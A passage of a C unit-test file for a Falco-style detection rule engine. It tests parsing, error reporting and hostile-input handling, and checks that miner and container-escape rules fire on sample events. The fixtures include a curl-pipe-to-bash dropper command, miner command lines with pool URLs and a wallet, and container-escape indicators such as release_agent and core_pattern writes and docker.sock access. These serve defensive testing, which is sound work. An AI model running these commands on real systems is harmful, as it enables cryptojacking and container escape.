/* Rule engine: lexer/parser/evaluator, lists/macros/append, exceptions,
 * errors with positions, hostile input, and every default rule firing on
 * its trigger and staying silent on a benign counterpart. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <cmocka.h>

#include "core/yaml_doc.h"
#include "detectors/rules/cond.h"
#include "detectors/rules/rules.h"

static struct hh_event base_event(void)
{
	struct hh_event e;
	memset(&e, 0, sizeof(e));
	e.type = HH_EV_EXEC;
	e.pid = 4242;
	e.ppid = 1;
	e.uid = 1000;
	hh_strlcpy(e.comm, "xmrig", sizeof(e.comm));
	hh_strlcpy(e.exepath, "/tmp/.x/xmrig", sizeof(e.exepath));
	hh_strlcpy(e.cmdline, "/tmp/.x/xmrig -o stratum+tcp://pool.example:3333 --donate-level 1", sizeof(e.cmdline));
	hh_strlcpy(e.env, "PATH=/usr/bin\nPOOL=stratum+ssl://p:443", sizeof(e.env));
	hh_strlcpy(e.pcomm, "bash", sizeof(e.pcomm));
	hh_strlcpy(e.ancestors[0], "bash", sizeof(e.ancestors[0]));
	hh_strlcpy(e.ancestors[1], "sshd", sizeof(e.ancestors[1]));
	hh_strlcpy(e.ancestors[2], "systemd", sizeof(e.ancestors[2]));
	e.n_ancestors = 3;
	e.exe_upper_layer = true;
	hh_strlcpy(e.path, "/dev/cpu/0/msr", sizeof(e.path));
	hh_strlcpy(e.sip, "10.1.2.3", sizeof(e.sip));
	e.family = 4;
	e.sport = 3333;
	e.l4proto = 6;
	hh_strlcpy(e.sip_name, "xmr-eu1.nanopool.org", sizeof(e.sip_name));
	hh_strlcpy(e.workload.container_id, "0123456789ab", sizeof(e.workload.container_id));
	hh_strlcpy(e.workload.image, "registry.local:5000/team/app:1.2", sizeof(e.workload.image));
	hh_strlcpy(e.workload.pod_namespace, "batch", sizeof(e.workload.pod_namespace));
	return e;
}

/* Compiles cond with no macros or lists; -1 when it does not compile. */
static int eval_text(const char *cond, const struct hh_event *e)
{
	struct cond_error err;
	struct cnode *n = cond_compile(cond, strlen(cond), NULL, &err);
	if (!n) {
		print_message("compile error for [%s]: %s at %zu\n", cond, err.msg, err.offset);
		return -1;
	}
	struct rule_ctx c;
	rule_ctx_init(&c, e);
	int r = cond_eval(n, &c);
	cond_free(n);
	return r;
}

static void operators(void **state)
{
	(void)state;
	struct hh_event e = base_event();
	static const struct { const char *cond; int want; } cases[] = {
		{ "proc.name = xmrig", 1 }, { "proc.name == xmrig", 1 }, { "proc.name = \"xmrig\"", 1 },
		{ "proc.name != xmrig", 0 }, { "proc.name = XMRIG", 0 },
		{ "proc.pid = 4242", 1 }, { "proc.pid != 4242", 0 }, { "proc.pid < 5000", 1 },
		{ "proc.pid <= 4242", 1 }, { "proc.pid > 4242", 0 }, { "proc.pid >= 4242", 1 },
		{ "proc.pid in (1, 2, 4242)", 1 }, { "proc.pid in (1, 2)", 0 }, { "proc.ppid = 0x1", 1 },
		{ "proc.name in (a, b, xmrig)", 1 }, { "proc.name in ('a', \"xmrig\")", 1 }, { "proc.name in ()", 0 },
		{ "proc.cmdline contains stratum+tcp", 1 }, { "proc.cmdline contains STRATUM", 0 },
		{ "proc.cmdline icontains STRATUM+TCP", 1 },
		{ "proc.exepath startswith /tmp/", 1 }, { "proc.exepath endswith /xmrig", 1 },
		{ "proc.exepath endswith /xmrigX", 0 }, { "proc.exepath glob '/tmp/*/xmrig'", 1 },
		{ "proc.exepath glob '/var/*'", 0 }, { "proc.exepath pmatch (/var, /tmp)", 1 },
		{ "proc.exepath pmatch (/tm)", 0 }, { "fd.name pmatch (/dev/cpu/0/msr)", 1 },
		{ "proc.exepath pmatch (/)", 1 },
		{ "proc.cmdline regex \"--donate-level [0-9]+\"", 1 }, { "proc.cmdline regex '^ls'", 0 },
		{ "proc.cmdline regex '[*+]{0,1}stratum\\+tcp'", 1 },
		{ "proc.cmdline regex '[[:space:]]--donate-level[ =][0-9]{1,2}( |$)'", 1 },
		{ "proc.name exists", 1 }, { "evt.dns.query exists", 0 }, { "fd.sport exists", 1 },
		{ "proc.fpu.switches exists", 0 },
		{ "proc.aname = sshd", 1 }, { "proc.aname = init", 0 }, { "proc.aname[2] = sshd", 1 },
		{ "proc.aname[1] = sshd", 0 }, { "proc.aname[0] = xmrig", 1 }, { "proc.aname[7] = x", 0 },
		{ "proc.aname intersects (cron, systemd)", 1 }, { "proc.aname in (cron)", 0 },
		{ "proc.pname = bash", 1 },
		{ "proc.env contains stratum+ssl", 1 }, { "proc.env[POOL] startswith stratum+ssl", 1 },
		{ "proc.env[HOME] exists", 0 },
		{ "proc.exe = /tmp/.x/xmrig", 1 }, { "proc.args startswith -o", 1 },
		{ "proc.is_exe_upper_layer = true", 1 }, { "proc.is_exe_from_memfd = true", 0 },
		{ "proc.exe_deleted = false", 1 }, { "user.uid = 1000", 1 },
		{ "evt.type = execve", 1 }, { "evt.type in (open, connect)", 0 }, { "evt.type = execveat", 1 },
		{ "evt.dir = <", 1 }, { "evt.dir=<", 1 },
		{ "fd.sip in (10.0.0.0/8)", 1 }, { "fd.sip in (192.168.0.0/16, 172.16.0.0/12)", 0 },
		{ "fd.sip = 10.1.2.3", 1 }, { "fd.sip = 10.1.2.4", 0 }, { "fd.sip cidr 10.1.2.0/30", 1 },
		{ "fd.net != \"127.0.0.0/8\"", 1 }, { "fd.sip in (::1, fe80::/10)", 0 },
		{ "fd.sip startswith \"10.\"", 1 },
		{ "fd.sport = 3333", 1 }, { "fd.sport in (3333, 4444)", 1 }, { "fd.l4proto = tcp", 1 },
		{ "fd.sip.name endswith .nanopool.org", 1 }, { "fd.directory = /dev/cpu/0", 1 },
		{ "fd.filename = msr", 1 },
		{ "container.id = 0123456789ab", 1 }, { "container.id != host", 1 },
		{ "container.image.repository = registry.local:5000/team/app", 1 },
		{ "k8s.ns.name = batch", 1 }, { "k8s.pod.name = x", 0 }, { "k8s.pod.name exists", 0 },
		{ "proc.exe.miner_traits exists", 0 }, { "proc.cmdline.wallet exists", 0 },
		/* precedence: not > and > or */
		{ "proc.name = a or proc.name = xmrig and proc.pid = 4242", 1 },
		{ "proc.name = xmrig or proc.name = a and proc.pid = 1", 1 },
		{ "(proc.name = xmrig or proc.name = a) and proc.pid = 1", 0 },
		{ "not proc.name = a and proc.pid = 4242", 1 },
		{ "not (proc.name = xmrig and proc.pid = 4242)", 0 },
		{ "not not proc.name = xmrig", 1 },
		{ "((((proc.name = xmrig))))", 1 },
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		int got = eval_text(cases[i].cond, &e);
		if (got != cases[i].want)
			fail_msg("[%s]: got %d, want %d", cases[i].cond, got, cases[i].want);
	}
	hh_strlcpy(e.cmdline, "x -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", sizeof(e.cmdline));
	assert_int_equal(eval_text("proc.cmdline.wallet = \"monero:44AFFq...EP3A\"", &e), 1);
	/* only the parent known: proc.aname[1] and proc.aname fall back to it */
	e.n_ancestors = 0;
	assert_int_equal(eval_text("proc.aname[1] = bash", &e), 1);
	assert_int_equal(eval_text("proc.aname = bash", &e), 1);
	assert_int_equal(eval_text("proc.aname = sshd", &e), 0);
	/* host processes: container.id is "host", as in Falco */
	e.workload.container_id[0] = '\0';
	assert_int_equal(eval_text("container.id = host", &e), 1);
}

static void compile_errors(void **state)
{
	(void)state;
	static const struct { const char *cond; const char *msg; size_t off; } cases[] = {
		{ "proc.nam = x", "unknown field 'proc.nam'", 0 },
		{ "proc.name = x and foo", "unknown macro 'foo'", 18 },
		{ "proc.name ~ x", "unknown operator '~'", 10 },
		{ "proc.name like x", "unknown operator 'like'", 10 },
		{ "(proc.name = x", "unbalanced parentheses", 0 },
		{ "proc.name = x)", "unbalanced parentheses", 13 },
		{ "proc.name in (a, b", "not closed", 13 },
		{ "proc.name in a", "parenthesized list", 13 },
		{ "proc.name = \"abc", "unterminated string", 12 },
		{ "proc.pid = abc", "type mismatch", 9 },
		{ "proc.pid contains 1", "type mismatch", 9 },
		{ "proc.name > 3", "type mismatch", 10 },
		{ "fd.sip in (10.0.0.0/33)", "type mismatch", 7 },
		{ "evt.type = frobnicate", "event type", 9 },
		{ "proc.is_exe_upper_layer = yes", "true or false", 24 },
		{ "proc.cmdline regex '('", "bad regex", 13 },
		{ "proc.cmdline regex 'x*********************'", "stacked quantifiers", 13 },
		{ "proc.cmdline regex 'a+*'", "stacked quantifiers", 13 },
		{ "proc.cmdline regex 'a{1,1000}'", "above 255", 13 },
		{ "proc.cmdline regex '(a{1,2}){3}{4}'", "stacked", 13 },
		{ "proc.cmdline regex '((a{1,255}){1,255}){1,255}'", "more than 1000", 13 },
		{ "proc.cmdline regex '(x(a{1,100}|b)){1,100}'", "more than 1000", 13 },
		{ "proc.aname[99] = x", "needs N in 0..8", 0 },
		{ "k8s.pod.label = x", "needs an argument", 0 },
		{ "", "empty condition", 0 },
		{ "proc.name = x and", "unexpected end", 17 },
		{ "and proc.name = x", "expected a field", 0 },
		{ "proc.name = x proc.pid = 1", "expected 'and' or 'or'", 14 },
		{ "proc.name = x, y", "expected 'and' or 'or'", 13 },
		{ "proc.name exists x", "expected 'and' or 'or'", 17 },
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct cond_error err;
		struct cnode *n = cond_compile(cases[i].cond, strlen(cases[i].cond), NULL, &err);
		if (n)
			fail_msg("[%s] compiled", cases[i].cond);
		if (!strstr(err.msg, cases[i].msg) || err.offset != cases[i].off)
			fail_msg("[%s]: got '%s' at %zu, want '%s' at %zu", cases[i].cond, err.msg, err.offset,
				 cases[i].msg, cases[i].off);
	}
}

static void hostile_conditions(void **state)
{
	(void)state;
	struct cond_error err;
	/* deep nesting: refused, no stack overflow */
	size_t depth = 100000;
	char *deep = malloc(depth * 2 + 32);
	memset(deep, '(', depth);
	strcpy(deep + depth, "proc.name = x");
	assert_null(cond_compile(deep, strlen(deep), NULL, &err));
	assert_non_null(strstr(err.msg, "nested too deeply"));
	memset(deep, ' ', depth * 2);
	for (size_t i = 0; i < depth / 4; i++)
		memcpy(deep + i * 4, "not ", 4);
	strcpy(deep + depth, "proc.name = x");
	assert_null(cond_compile(deep, strlen(deep), NULL, &err));
	assert_non_null(strstr(err.msg, "nested too deeply"));
	free(deep);
	/* a huge flat condition compiles (n-ary and/or: no recursion per term) */
	size_t terms = 20000;
	char *big = malloc(terms * 32 + 16);
	size_t k = 0;
	for (size_t i = 0; i < terms; i++)
		k += (size_t)sprintf(big + k, "%sproc.pid = %zu", i ? " or " : "", i + 10000);
	struct cnode *n = cond_compile(big, k, NULL, &err);
	assert_non_null(n);
	struct hh_event e = base_event();
	struct rule_ctx c;
	rule_ctx_init(&c, &e);
	assert_false(cond_eval(n, &c));
	cond_free(n);
	/* too many nodes: refused with a message */
	size_t terms2 = COND_MAX_NODES + 10;
	char *huge = malloc(terms2 * 8 + 32);
	k = (size_t)sprintf(huge, "proc.pid in (");
	for (size_t i = 0; i < terms2; i++)
		k += (size_t)sprintf(huge + k, "%s%zu", i ? "," : "", i % 1000);
	huge[k++] = ')';
	assert_null(cond_compile(huge, k, NULL, &err));
	assert_non_null(strstr(err.msg, "too large"));
	free(huge);
	free(big);
	/* non-UTF-8 and control bytes: no crash; compile or a clear error */
	const char bin[] = "proc.name = \xff\xfe\x01 and proc.cmdline contains \"\xc3\x28\"";
	n = cond_compile(bin, sizeof(bin) - 1, NULL, &err);
	assert_non_null(n);
	cond_free(n);
	const char nul[] = "proc.name = a\0b";
	assert_null(cond_compile(nul, sizeof(nul) - 1, NULL, &err));
	assert_non_null(strstr(err.msg, "NUL"));
	/* every prefix of a valid condition: never a crash */
	const char *full = "not (proc.name in (a, 'b\\'c', miner) or fd.sip in (10.0.0.0/8)) and proc.aname[2] glob \"x*\"";
	for (size_t i = 0; i <= strlen(full); i++) {
		n = cond_compile(full, i, NULL, &err);
		cond_free(n);
	}
}

/* ---- engine: YAML files ---- */

static struct hh_rules *load(const char *yaml, bool builtin)
{
	struct hh_rules *r = hh_rules_new();
	assert_non_null(r);
	if (builtin)
		hh_rules_load_builtin(r);
	hh_rules_load_buf(r, yaml, strlen(yaml), "t.yaml");
	hh_rules_compile(r);
	return r;
}

static void print_errors(const struct hh_rules *r)
{
	for (size_t i = 0; i < hh_rules_n_errors(r); i++) {
		char b[1024];
		hh_rule_error_format(hh_rules_error(r, i), b, sizeof(b));
		print_message("  %s\n", b);
	}
}

/* Findings of r on e; returns how many, and whether rule id was among them. */
static size_t run(struct hh_rules *r, const struct hh_event *e, const char *id, bool *hit)
{
	struct hh_findings out = { 0 };
	size_t n = hh_rules_eval(r, e, NULL, &out);
	*hit = false;
	for (size_t i = 0; i < out.n; i++)
		if (id && strcmp(out.items[i]->rule, id) == 0)
			*hit = true;
	hh_findings_clear(&out);
	return n;
}

static void lists_macros_append(void **state)
{
	(void)state;
	const char *y =
		"- list: bins\n  items: [xmrig, minerd]\n"
		"- list: more_bins\n  items: [bins, cpuminer]\n"
		"- list: bins\n  items: [t-rex]\n  append: true\n"
		"- macro: is_miner\n  condition: proc.name in (more_bins)\n"
		"- macro: is_miner\n  condition: or proc.name = special\n  append: true\n"
		"- macro: in_ct\n  condition: container.id != host and is_miner\n"
		"- rule: Miner\n  id: t.miner\n  desc: d\n  condition: in_ct\n  output: \"miner %proc.name in %container.id\"\n"
		"  priority: WARNING\n  tags: [T1496, mitre_impact, T1059.004, Tx]\n"
		"- rule: Miner\n  condition: and proc.pid > 1\n  append: true\n";
	struct hh_rules *r = load(y, false);
	print_errors(r);
	assert_int_equal(hh_rules_n_errors(r), 0);
	struct hh_event e = base_event();
	struct hh_findings out = { 0 };
	assert_int_equal(hh_rules_eval(r, &e, NULL, &out), 1);
	struct hh_finding *f = out.items[0];
	assert_string_equal(f->rule, "t.miner");
	assert_string_equal(f->source, "agent");
	assert_int_equal(f->severity, HH_SEV_MEDIUM); /* WARNING */
	assert_int_equal(f->n_mitre, 2);
	assert_string_equal(f->mitre[1], "T1059.004");
	json_t *j = hh_finding_to_json(f);
	json_t *ev0 = json_array_get(json_object_get(j, "evidence"), 0);
	assert_string_equal(json_string_value(json_object_get(ev0, "value")), "miner xmrig in 0123456789ab");
	assert_string_equal(json_string_value(json_object_get(json_object_get(j, "fields"), "k8s.ns.name")), "batch");
	assert_int_equal(json_integer_value(json_object_get(json_object_get(j, "fields"), "proc.pid")), 4242);
	json_decref(j);
	hh_findings_clear(&out);
	bool hit;
	/* appended list item reaches the macro through the nested list */
	hh_strlcpy(e.comm, "t-rex", sizeof(e.comm));
	run(r, &e, "t.miner", &hit);
	assert_true(hit);
	hh_strlcpy(e.comm, "special", sizeof(e.comm));
	run(r, &e, "t.miner", &hit);
	assert_true(hit);
	hh_strlcpy(e.comm, "nginx", sizeof(e.comm));
	run(r, &e, "t.miner", &hit);
	assert_false(hit);
	/* appended condition: pid > 1 */
	hh_strlcpy(e.comm, "xmrig", sizeof(e.comm));
	e.pid = 1;
	run(r, &e, "t.miner", &hit);
	assert_false(hit);
	/* enable/disable by id */
	e.pid = 7;
	assert_true(hh_rules_set_enabled(r, "t.miner", false));
	run(r, &e, "t.miner", &hit);
	assert_false(hit);
	assert_false(hh_rules_set_enabled(r, "nope", false));
	hh_rules_free(r);
}

static void exceptions(void **state)
{
	(void)state;
	const char *y =
		"- list: ok_images\n  items: [registry.local:5000/team/app]\n"
		"- rule: Tmp exec\n  id: t.tmp\n  condition: proc.exepath startswith /tmp/\n  output: x\n  priority: info\n"
		"  exceptions:\n"
		"    - name: known\n      fields: [proc.name, k8s.ns.name]\n      comps: [=, startswith]\n"
		"      values:\n        - [builder, ci-]\n"
		"    - name: images\n      fields: container.image.repository\n      comps: in\n      values: [other/img]\n"
		"- rule: Tmp exec\n  exceptions:\n    - name: known\n      values: [[xmrig, bat]]\n  append: true\n";
	struct hh_rules *r = load(y, false);
	print_errors(r);
	assert_int_equal(hh_rules_n_errors(r), 0);
	struct hh_event e = base_event();
	bool hit;
	run(r, &e, "t.tmp", &hit);
	assert_false(hit); /* xmrig in batch: appended exception value */
	hh_strlcpy(e.workload.pod_namespace, "prod", sizeof(e.workload.pod_namespace));
	run(r, &e, "t.tmp", &hit);
	assert_true(hit);
	hh_strlcpy(e.comm, "builder", sizeof(e.comm));
	hh_strlcpy(e.workload.pod_namespace, "ci-42", sizeof(e.workload.pod_namespace));
	run(r, &e, "t.tmp", &hit);
	assert_false(hit);
	hh_strlcpy(e.workload.pod_namespace, "prod", sizeof(e.workload.pod_namespace));
	hh_strlcpy(e.workload.image, "other/img:1", sizeof(e.workload.image));
	run(r, &e, "t.tmp", &hit);
	assert_false(hit); /* single-field form */
	hh_rules_free(r);

	/* override: (Falco 0.36 form) replace the condition, append exceptions */
	y = "- rule: R\n  id: t.r\n  condition: proc.name = a\n  output: o\n  priority: low\n"
	    "- rule: R\n  condition: proc.name = xmrig\n  override:\n    condition: replace\n"
	    "- rule: R\n  enabled: false\n"
	    "- rule: R\n  enabled: true\n";
	r = load(y, false);
	print_errors(r);
	assert_int_equal(hh_rules_n_errors(r), 0);
	e = base_event();
	run(r, &e, "t.r", &hit);
	assert_true(hit);
	hh_rules_free(r);
}

static const struct hh_rule_error *find_error(const struct hh_rules *r, const char *needle)
{
	for (size_t i = 0; i < hh_rules_n_errors(r); i++)
		if (strstr(hh_rules_error(r, i)->msg, needle))
			return hh_rules_error(r, i);
	return NULL;
}

static void file_errors_with_positions(void **state)
{
	(void)state;
	const char *y =
		"- rule: Good\n"                                 /* 1 */
		"  id: t.good\n"                                  /* 2 */
		"  condition: proc.name = x\n"                    /* 3 */
		"  output: o\n"                                   /* 4 */
		"  priority: high\n"                              /* 5 */
		"- rule: Bad field\n"                             /* 6 */
		"  condition: proc.name = x and proc.nmae = y\n"  /* 7: proc.nmae at col 32 */
		"  output: o\n"
		"  priority: high\n"
		"- rule: Bad macro\n"                             /* 10 */
		"  condition: >\n"                                /* 11 */
		"    proc.name = x\n"                             /* 12 */
		"      and no_such_macro\n"                       /* 13: col 11 */
		"  output: o\n"
		"  priority: high\n"
		"- rule: Bad priority\n"                          /* 16 */
		"  condition: proc.name = x\n"
		"  output: o\n"
		"  priority: urgent\n"                            /* 19: col 13 */
		"- rule: Bad output\n"
		"  condition: proc.name = x\n"
		"  output: \"%proc.nope here\"\n"                 /* 22 */
		"  priority: high\n"
		"- rule: Quoted\n"
		"  condition: \"proc.name = x and (proc.pid = 1\"\n" /* 25: '(' at col 33 */
		"  output: o\n"
		"  priority: high\n"
		"- macro: m\n  condition: proc.pid = abc\n"        /* 28, 29: '=' col 23 */
		"- rule: Uses bad macro\n  condition: m\n  output: o\n  priority: high\n"
		"- rule: No cond\n  output: o\n  priority: high\n"
		"- rule: Typo key\n  conditon: x\n  output: o\n  priority: high\n"
		"- list: l\n  items: [a]\n  append: true\n"
		"- macro: loop_a\n  condition: loop_b\n- macro: loop_b\n  condition: loop_a\n"
		"- rule: Dup id\n  id: t.good\n  condition: proc.name = x\n  output: o\n  priority: high\n"
		"- bogus: 1\n"
		"- rule: After\n  id: t.after\n  condition: proc.name = xmrig\n  output: o\n  priority: high\n"
		"- rule: Broken yaml\n  condition: [unclosed\n";
	struct hh_rules *r = load(y, false);
	print_errors(r);
	const struct hh_rule_error *e;
	assert_non_null(e = find_error(r, "unknown field 'proc.nmae'"));
	assert_string_equal(e->file, "t.yaml");
	assert_int_equal(e->line, 7);
	assert_int_equal(e->col, 32);
	assert_string_equal(e->item, "rule 'Bad field'");
	assert_non_null(e = find_error(r, "unknown macro 'no_such_macro'"));
	assert_int_equal(e->line, 13);
	assert_int_equal(e->col, 11);
	assert_non_null(e = find_error(r, "unknown priority"));
	assert_int_equal(e->line, 19);
	assert_int_equal(e->col, 13);
	/* an output field we do not know is <NA>, not an error (Falco files) */
	assert_null(find_error(r, "rule 'Bad output'"));
	assert_non_null(e = find_error(r, "'(' is not closed"));
	assert_int_equal(e->line, 25);
	assert_int_equal(e->col, 33);
	assert_non_null(e = find_error(r, "type mismatch"));
	assert_int_equal(e->line, 29);
	assert_int_equal(e->col, 23);
	assert_non_null(find_error(r, "macro 'm' is unusable"));
	assert_non_null(find_error(r, "'condition' is required"));
	assert_non_null(find_error(r, "unknown key 'conditon'"));
	assert_non_null(find_error(r, "append to a list that is not defined"));
	assert_non_null(find_error(r, "cycle"));
	assert_non_null(find_error(r, "already used"));
	assert_non_null(find_error(r, "neither a rule"));
	assert_non_null(e = find_error(r, "YAML"));
	assert_true(e->line >= 60);
	/* the good rules still loaded and work */
	struct hh_event ev = base_event();
	bool hit;
	run(r, &ev, "t.after", &hit);
	assert_true(hit);
	struct hh_rule_info info;
	size_t loaded = 0;
	for (size_t i = 0; hh_rules_info(r, i, &info); i++)
		loaded += info.loaded;
	assert_int_equal(loaded, 3);
	assert_int_equal(hh_rules_log_summary(r), 3);
	hh_rules_free(r);

	/* hostile files: not a sequence, huge, binary */
	r = load("rule: x\n", false);
	assert_non_null(find_error(r, "YAML sequence"));
	hh_rules_free(r);
	r = load("\xff\xfe- rule: \x01\n", false);
	assert_true(hh_rules_n_errors(r) > 0);
	hh_rules_free(r);
	r = hh_rules_new();
	assert_int_equal(hh_rules_load_path(r, "/nonexistent/rules.yaml"), 1);
	hh_rules_free(r);
}

/* ---- the default pack: every rule fires on its trigger, not on a benign twin ---- */

struct pack_case {
	const char *id;
	const char *fire;    /* event JSON */
	const char *benign;
};

#define CT "\"container.id\":\"c0ffee\",\"container.image\":\"docker.io/library/app:1\""
static const struct pack_case pack_cases[] = {
	{ "miner.stratum-url",
	  "{\"evt.type\":\"execve\",\"proc.name\":\"kthreadd\",\"proc.cmdline\":\"kthreadd -o stratum+tls://pool.x.io:443 -k\"," CT "}",
	  "{\"evt.type\":\"execve\",\"proc.name\":\"curl\",\"proc.cmdline\":\"curl https://example.com/stratum-docs\"," CT "}" },
	{ "miner.stratum-url-env",
	  "{\"evt.type\":\"proc\",\"proc.name\":\"app\",\"proc.cmdline\":\"app\",\"proc.env\":{\"POOL\":\"stratum+udp://p.io:3333\"}," CT "}",
	  "{\"evt.type\":\"proc\",\"proc.name\":\"app\",\"proc.cmdline\":\"app\",\"proc.env\":{\"URL\":\"https://p.io\"}," CT "}" },
	{ "miner.cmdline-flags",
	  "{\"evt.type\":\"execve\",\"proc.name\":\"sysupd\",\"proc.cmdline\":\"sysupd -a rx/0 --cpu-max-threads-hint 50\"," CT "}",
	  "{\"evt.type\":\"execve\",\"proc.name\":\"tar\",\"proc.cmdline\":\"tar -a -cf rx.tar rx/0\"," CT "}" },
	{ "miner.wallet-arg",
	  "{\"evt.type\":\"execve\",\"proc.name\":\"svc\",\"proc.cmdline\":\"svc -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x\"," CT "}",
	  /* the same address with a broken checksum: not a wallet */
	  "{\"evt.type\":\"execve\",\"proc.name\":\"svc\",\"proc.cmdline\":\"svc -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3B -p x\"," CT "}" },
	{ "miner.binary-name",
	  "{\"evt.type\":\"execve\",\"proc.name\":\"xmrig\",\"proc.cmdline\":\"xmrig -c config.json\"," CT "}",
	  "{\"evt.type\":\"execve\",\"proc.name\":\"nginx\",\"proc.cmdline\":\"nginx -g daemon off;\"," CT "}" },
	{ "miner.renamed-binary",
	  "{\"evt.type\":\"execve\",\"proc.name\":\"kworker\",\"proc.cmdline\":\"kworker\",\"proc.exe.miner_traits\":\"xmrig-strings,randomx\"," CT "}",
	  "{\"evt.type\":\"execve\",\"proc.name\":\"kworker\",\"proc.cmdline\":\"kworker\"," CT "}" },
	{ "miner.fpu-randomx",
	  "{\"evt.type\":\"fpu\",\"proc.name\":\"x\",\"proc.fpu.switches\":1000,\"proc.fpu.nondefault_switches\":990," CT "}",
	  "{\"evt.type\":\"fpu\",\"proc.name\":\"ffmpeg\",\"proc.fpu.switches\":1000,\"proc.fpu.nondefault_switches\":3," CT "}" },
	{ "miner.msr-access",
	  "{\"evt.type\":\"open\",\"proc.name\":\"x\",\"fd.name\":\"/dev/cpu/3/msr\",\"evt.is_open_write\":true," CT "}",
	  "{\"evt.type\":\"open\",\"proc.name\":\"x\",\"fd.name\":\"/dev/cpu/3/cpuid\"," CT "}" },
	{ "miner.msr-module",
	  "{\"evt.type\":\"execve\",\"proc.name\":\"modprobe\",\"proc.cmdline\":\"modprobe msr allow_writes=on\"}",
	  "{\"evt.type\":\"execve\",\"proc.name\":\"modprobe\",\"proc.cmdline\":\"modprobe msrx\"}" },
	{ "miner.hugepages",
	  "{\"evt.type\":\"execve\",\"proc.name\":\"sysctl\",\"proc.cmdline\":\"sysctl -w vm.nr_hugepages=1280\"," CT "}",
	  "{\"evt.type\":\"execve\",\"proc.name\":\"sysctl\",\"proc.cmdline\":\"sysctl -a\"," CT "}" },
	{ "net.miner-pool-domain-port",
	  "{\"evt.type\":\"connect\",\"proc.name\":\"x\",\"fd.sip\":\"51.15.1.1\",\"fd.sport\":14444,\"fd.sip.name\":\"pool.supportxmr.com\",\"fd.l4proto\":\"tcp\"," CT "}",
	  "{\"evt.type\":\"connect\",\"proc.name\":\"x\",\"fd.sip\":\"51.15.1.1\",\"fd.sport\":14444,\"fd.sip.name\":\"api.example.com\"," CT "}" },
	{ "net.miner-pool-domain",
	  "{\"evt.type\":\"connect\",\"proc.name\":\"x\",\"fd.sip\":\"51.15.1.1\",\"fd.sport\":443,\"fd.sip.name\":\"gulf.moneroocean.stream\"," CT "}",
	  "{\"evt.type\":\"connect\",\"proc.name\":\"x\",\"fd.sip\":\"51.15.1.1\",\"fd.sport\":443,\"fd.sip.name\":\"moneroocean.stream.example.com\"," CT "}" },
	{ "net.miner-pool-dns",
	  "{\"evt.type\":\"dns\",\"proc.name\":\"x\",\"evt.dns.query\":\"xmr-eu1.nanopool.org\"," CT "}",
	  "{\"evt.type\":\"dns\",\"proc.name\":\"x\",\"evt.dns.query\":\"www.nanopool.org.evil-cdn.com\"," CT "}" },
	{ "net.miner-pool-port",
	  "{\"evt.type\":\"connect\",\"proc.name\":\"x\",\"fd.sip\":\"203.0.113.9\",\"fd.sport\":3333," CT "}",
	  "{\"evt.type\":\"connect\",\"proc.name\":\"x\",\"fd.sip\":\"10.0.0.9\",\"fd.sport\":3333," CT "}" },
	{ "container.drift-exec",
	  "{\"evt.type\":\"execve\",\"proc.name\":\"dropper\",\"proc.exepath\":\"/usr/local/bin/dropper\",\"proc.is_exe_upper_layer\":true," CT "}",
	  "{\"evt.type\":\"execve\",\"proc.name\":\"dropper\",\"proc.exepath\":\"/usr/local/bin/dropper\",\"proc.is_exe_upper_layer\":true}" },
	{ "exec.tmp-dir",
	  "{\"evt.type\":\"execve\",\"proc.name\":\"x\",\"proc.exepath\":\"/dev/shm/.x/run\"," CT "}",
	  "{\"evt.type\":\"execve\",\"proc.name\":\"x\",\"proc.exepath\":\"/tmpfiles/run\"," CT "}" },
	{ "exec.memfd",
	  "{\"evt.type\":\"execve\",\"proc.name\":\"x\",\"proc.exepath\":\"/memfd:payload (deleted)\",\"proc.is_exe_from_memfd\":true," CT "}",
	  "{\"evt.type\":\"execve\",\"proc.name\":\"runc:[2:INIT]\",\"proc.exepath\":\"/memfd:runc_cloned:/proc/self/exe (deleted)\",\"proc.is_exe_from_memfd\":true," CT "}" },
	{ "dropper.curl-pipe-sh",
	  "{\"evt.type\":\"execve\",\"proc.name\":\"sh\",\"proc.cmdline\":\"sh -c curl -fsSL http://1.2.3.4/x.sh | bash\"," CT "}",
	  "{\"evt.type\":\"execve\",\"proc.name\":\"sh\",\"proc.cmdline\":\"sh -c curl -fsSL http://1.2.3.4/x.json | jq .shell\"," CT "}" },
	{ "escape.namespace-change",
	  "{\"evt.type\":\"setns\",\"proc.name\":\"nsenter\",\"proc.cmdline\":\"nsenter -t 1 -m\"," CT "}",
	  "{\"evt.type\":\"setns\",\"proc.name\":\"runc:[2:INIT]\"," CT "}" },
	{ "escape.mount",
	  "{\"evt.type\":\"mount\",\"proc.name\":\"mount\",\"fd.name\":\"/mnt/host\"," CT "}",
	  "{\"evt.type\":\"mount\",\"proc.name\":\"mount\",\"fd.name\":\"/mnt/host\"}" },
	{ "escape.release-agent",
	  "{\"evt.type\":\"open\",\"proc.name\":\"sh\",\"fd.name\":\"/tmp/cg/release_agent\",\"evt.is_open_write\":true," CT "}",
	  "{\"evt.type\":\"open\",\"proc.name\":\"cat\",\"fd.name\":\"/sys/fs/cgroup/memory/release_agent\",\"evt.is_open_write\":false," CT "}" },
	{ "escape.core-pattern",
	  "{\"evt.type\":\"open\",\"proc.name\":\"sh\",\"fd.name\":\"/proc/sys/kernel/core_pattern\",\"evt.is_open_write\":true," CT "}",
	  "{\"evt.type\":\"open\",\"proc.name\":\"sh\",\"fd.name\":\"/proc/sys/kernel/core_pattern\",\"evt.is_open_write\":false," CT "}" },
	{ "escape.runtime-socket",
	  "{\"evt.type\":\"open\",\"proc.name\":\"curl\",\"fd.name\":\"/var/run/docker.sock\"," CT "}",
	  "{\"evt.type\":\"open\",\"proc.name\":\"dockerd\",\"fd.name\":\"/var/run/docker.sock\"}" },
	{ "escape.proc-mem",
	  "{\"evt.type\":\"open\",\"proc.name\":\"x\",\"fd.name\":\"/proc/1/mem\"," CT "}",
